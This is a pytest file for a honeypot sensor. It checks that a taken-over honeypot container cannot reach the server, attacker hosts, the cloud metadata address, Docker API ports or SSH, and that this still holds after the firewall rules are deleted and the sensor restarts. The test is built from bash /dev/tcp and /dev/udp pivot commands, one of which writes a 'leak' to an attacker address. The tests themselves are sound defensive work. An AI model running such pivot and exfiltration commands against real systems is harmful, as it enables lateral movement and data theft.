"""A honeypot that has been taken over reaches nothing."""

import signal
import socket
from contextlib import ExitStack
from functools import partial

import pytest
from sensor_support import namespaces
from sensor_support.builders import eventually
from sensor_support.engine import DOCKER
from sensor_support.namespaces import ATTACKER, ATTACKER6, OTHER_ATTACKER6, SENSOR, SENSOR6, SERVER, sh
from sensor_support.sensor_process import Sensor

from sensor_manager.effects.network_namespace import in_network_namespace

pytestmark = [pytest.mark.docker, pytest.mark.netns]

BRIDGES = {"pot": ("10.10.10.1", "fd68:6f6e:6579::1"), "sleeper": ("10.10.10.5", "fd68:6f6e:6579:1::1")}
OTHERS = {"pot": ("10.10.10.6", "fd68:6f6e:6579:1::2"), "sleeper": ("10.10.10.2", "fd68:6f6e:6579::2")}


def _pivots(name: str) -> list[str]:
    """All that a honeypot could want to reach: IPv4 and IPv6 alike."""
    places = [(SERVER, 8443), (OTHER_ATTACKER6, 8443), (ATTACKER, 9999), (ATTACKER6, 9999), (SENSOR, 22), (SENSOR6, 22)]
    places += [(address, 22) for address in BRIDGES[name]]
    places += [(address, port) for address in OTHERS[name] for port in (60999, 2222)]
    places += [("192.0.2.1", 443), ("2001:db8:1::1", 443), ("169.254.169.254", 80), ("fe80::1%eth0", 22)]
    places += [(address, 2375) for address in BRIDGES[name]]
    return [*(f"exec 3<>/dev/tcp/{address}/{port}" for address, port in places), "getent hosts sensor.example"]


def _assert_closed(sensor: Sensor) -> None:
    """From a mapped service through its attacker's session, from the catch-all as one who has taken it over."""
    leaks = [f"exec 3>/dev/udp/{address}/5000; echo leak >&3" for address in (ATTACKER, ATTACKER6)]
    for name in ("pot", "sleeper"):
        attempts = [f"(timeout 1 bash -c '{each}' && echo OPEN {each} || echo shut) &" for each in _pivots(name)]
        script = " ".join([*attempts, *(f"(bash -c '{each}') &" for each in leaks), "wait"])
        command = [DOCKER, "-H", sensor.docker, "exec", f"honeysens-{name}", "bash", "-c", f"( {script} ) 2>/dev/null"]
        answer = sensor.connect(script) if name == "pot" else sh(*command)
        assert answer.count("shut") == len(attempts), (name, answer)
        assert "OPEN" not in answer, (name, answer)


def test_taken_over_honeypot_reaches_nothing_also_after_restarts(sensor: Sensor) -> None:
    sensor.want("pot", "sleeper")
    sensor.runs("pot", "sleeper")
    outside = namespaces.path(sensor.net.lan)
    with ExitStack() as stack:
        leaks = []
        for address in (ATTACKER, ATTACKER6):
            stack.enter_context(in_network_namespace(outside, partial(_listener, address, 9999)))
            leaks.append(stack.enter_context(in_network_namespace(outside, partial(_datagram_socket, address, 5000))))
        _assert_closed(sensor)
        sh("ip", "netns", "exec", sensor.net.sensor, "nft", "delete", "table", "inet", "honeysens")
        eventually(lambda: "honeysens" in sensor.rules(), "the rules are back")
        repairs = eventually(lambda: sensor.server.reports[-1].netfilter, "the repair is reported")
        assert repairs.repairs == 1
        sensor.engine.restart()
        sensor.kill(signal.SIGTERM)
        sensor.start()
        sensor.server.reports.clear()
        sensor.runs("pot", "sleeper")
        _assert_closed(sensor)
        for leak in leaks:
            with pytest.raises(BlockingIOError):
                leak.recv(100)


def _family(address: str) -> socket.AddressFamily:
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def _listener(address: str, port: int) -> socket.socket:
    return socket.create_server((address, port), family=_family(address))


def _datagram_socket(address: str, port: int) -> socket.socket:
    made = socket.socket(_family(address), socket.SOCK_DGRAM)
    made.bind((address, port))
    made.settimeout(0)
    return made
